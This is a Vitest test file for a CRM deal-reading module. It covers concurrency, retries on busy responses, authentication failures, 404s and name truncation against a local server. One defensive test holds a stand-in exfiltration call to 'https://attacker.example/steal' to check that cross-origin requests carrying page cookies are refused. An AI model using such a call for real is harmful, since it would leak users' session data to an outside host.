// @vitest-environment node
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { ApiReader } from '../crm/api-read';
import { LIMITS } from '../crm/limits';
import type { CrmDeal } from '../crm/model';
import { unreadDeal } from '../crm/read';
import { CrmDealSchema } from '../crm/schema';
import { BUSY_WAITS_MS, createDealReads, type DealReadHost } from './deal-reads';

/** A CRM-like server: `/api/deal/<id>` answers what `answers` says for that id, counting reads at once. */
let server: Server;
let origin: string;
let answers: Map<string, ((res: ServerResponse, req: IncomingMessage) => void)[]>;
let open = 0;
let mostOpen = 0;
let requests: { path: string; headers: IncomingMessage['headers']; body: string }[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    let body = '';
    req.on('data', (chunk) => {
      body += chunk;
    });
    req.on('end', () => {
      const path = req.url ?? '';
      requests.push({ path, headers: req.headers, body });
      open++;
      mostOpen = Math.max(mostOpen, open);
      res.on('close', () => open--);
      if (path === '/login') {
        res.writeHead(200, { 'Content-Type': 'text/html' });
        return res.end('<form><input type="password" name="p"></form>');
      }
      const id = /^\/api\/deal\/(\w+)/.exec(path)?.[1] ?? '';
      const queue = answers.get(id) ?? [];
      const answer = queue.length > 1 ? queue.shift() : queue[0];
      const reply = () => {
        if (answer) return answer(res, req);
        res.writeHead(200, { 'Content-Type': 'application/json' });
        res.end(JSON.stringify({ id, name: `Deal ${id}` }));
      };
      setTimeout(reply, 20);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

beforeEach(() => {
  answers = new Map();
  open = 0;
  mostOpen = 0;
  requests = [];
});

const status =
  (code: number) =>
  (res: ServerResponse): void => {
    res.writeHead(code, { 'Content-Type': 'application/json' });
    res.end('{}');
  };

/** A reader that reads a deal from one endpoint, as the built-in readers do from several. */
const reader: ApiReader = {
  crm: 'espocrm',
  async readDeal(id, fetchJson, context) {
    const body = (await fetchJson(`/api/deal/${id}`)) as { id: string; name: string };
    const deal: CrmDeal = { ...unreadDeal('espocrm', `${context.url}#${id}`), id: body.id, name: body.name };
    return { data: deal, problems: [] };
  },
};

function host(slept: number[] = []): DealReadHost {
  return {
    fetch: globalThis.fetch,
    location: () => `${origin}/board`,
    now: () => new Date('2026-12-01T10:00:00Z'),
    timeZone: async () => 'UTC',
    sleep: async (ms) => {
      slept.push(ms);
    },
  };
}

const ids = (n: number) => Array.from({ length: n }, (_, i) => `d${i + 1}`);

describe('whole-deal reads on the CRM page', () => {
  it('reads every deal with at most the allowed reads at once, in order', async () => {
    const reads = createDealReads(host(), { espocrm: reader });
    const outcomes = await reads.readDeals('espocrm', ids(12), { concurrency: 3, delayMs: 0 });
    expect(outcomes.map((o) => ('deal' in o ? o.deal.name : o.failure))).toEqual(
      ids(12).map((id) => `Deal ${id}`),
    );
    expect(mostOpen).toBe(3);
    expect(requests).toHaveLength(12);
    expect(requests[0]?.headers['x-requested-with']).toBe('XMLHttpRequest');
  });

  it('waits and tries again while the CRM is busy (429, 503), then reads the deal', async () => {
    answers.set('d2', [
      status(503),
      status(429),
      (res) => {
        res.writeHead(200, { 'Content-Type': 'application/json' });
        res.end(JSON.stringify({ id: 'd2', name: 'Deal d2 at last' }));
      },
    ]);
    const slept: number[] = [];
    const outcomes = await createDealReads(host(slept), { espocrm: reader }).readDeals('espocrm', ids(3), {
      concurrency: 1,
      delayMs: 0,
    });
    expect(outcomes[1]).toMatchObject({ id: 'd2', deal: { name: 'Deal d2 at last' } });
    expect(slept).toEqual([BUSY_WAITS_MS[0], BUSY_WAITS_MS[1]]);
  });

  it('gives up on a deal the CRM stays busy for, and says it was busy', async () => {
    answers.set('d1', [status(502)]);
    const outcomes = await createDealReads(host(), { espocrm: reader }).readDeals('espocrm', ['d1', 'd2'], {
      concurrency: 1,
      delayMs: 0,
    });
    expect(outcomes[0]).toMatchObject({ id: 'd1', failure: 'busy', status: 502 });
    expect(outcomes[1]).toMatchObject({ id: 'd2', deal: { name: 'Deal d2' } });
    expect(requests.filter((r) => r.path === '/api/deal/d1')).toHaveLength(BUSY_WAITS_MS.length + 1);
  });

  it('stops reading when the CRM answers 401: the deals after it are not tried', async () => {
    answers.set('d2', [status(401)]);
    const outcomes = await createDealReads(host(), { espocrm: reader }).readDeals('espocrm', ids(5), {
      concurrency: 1,
      delayMs: 0,
    });
    expect(outcomes.map((o) => ('failure' in o ? o.failure : 'read'))).toEqual([
      'read',
      'auth',
      'auth',
      'auth',
      'auth',
    ]);
    expect(requests).toHaveLength(2);
  });

  it('takes a login page served where JSON was asked for as a logged-out session', async () => {
    answers.set('d1', [
      (res) => {
        res.writeHead(302, { Location: '/login' });
        res.end();
      },
    ]);
    const [outcome] = await createDealReads(host(), { espocrm: reader }).readDeals('espocrm', ['d1'], {
      concurrency: 1,
      delayMs: 0,
    });
    expect(outcome).toMatchObject({ failure: 'auth' });
  });

  it('reports a deal the CRM does not have (404) and reads the others', async () => {
    answers.set('d1', [status(404)]);
    const outcomes = await createDealReads(host(), { espocrm: reader }).readDeals('espocrm', ['d1', 'd2'], {
      concurrency: 2,
      delayMs: 0,
    });
    expect(outcomes[0]).toMatchObject({ failure: 'not_found', status: 404 });
    expect(outcomes[1]).toMatchObject({ deal: { id: 'd2' } });
  });

  it('cuts a deal name longer than the background takes, with a note, instead of losing the deal', async () => {
    answers.set('d1', [
      (res) => {
        res.writeHead(200, { 'Content-Type': 'application/json' });
        res.end(JSON.stringify({ id: 'd1', name: 'N'.repeat(LIMITS.text + 10) }));
      },
    ]);
    const [outcome] = await createDealReads(host(), { espocrm: reader }).readDeals('espocrm', ['d1'], {
      concurrency: 1,
      delayMs: 0,
    });
    if (!outcome || !('deal' in outcome)) throw new Error(`not read: ${JSON.stringify(outcome)}`);
    expect(CrmDealSchema.safeParse(outcome.deal).success).toBe(true);
    expect(outcome.deal.name).toHaveLength(LIMITS.text);
    expect(outcome.problems).toEqual([
      {
        code: 'text_truncated',
        field: 'deal.name',
        detail: String(LIMITS.text),
        dealId: 'd1',
        severity: 'warning',
      },
    ]);
  });

  it('pauses between reads when asked to', async () => {
    const slept: number[] = [];
    await createDealReads(host(slept), { espocrm: reader }).readDeals('espocrm', ids(3), {
      concurrency: 1,
      delayMs: 250,
    });
    expect(slept).toEqual([250, 250, 250]);
  });

  it('never asks another origin with the page cookies', async () => {
    const elsewhere: ApiReader = {
      crm: 'espocrm',
      async readDeal(_id, fetchJson) {
        await fetchJson('https://attacker.example/steal');
        throw new Error('unreachable');
      },
    };
    const [outcome] = await createDealReads(host(), { espocrm: elsewhere }).readDeals('espocrm', ['d1'], {
      concurrency: 1,
      delayMs: 0,
    });
    expect(outcome).toMatchObject({ failure: 'refused' });
    expect(requests).toHaveLength(0);
  });

  it('says a CRM without a reader cannot be read through endpoints', async () => {
    const reads = createDealReads(host(), { espocrm: reader });
    expect(reads.canRead('espocrm')).toBe(true);
    expect(reads.canRead('recipe:krayin')).toBe(false);
    const [outcome] = await reads.readDeals('recipe:krayin', ['1'], { concurrency: 1, delayMs: 0 });
    expect(outcome).toMatchObject({ failure: 'refused' });
  });
});
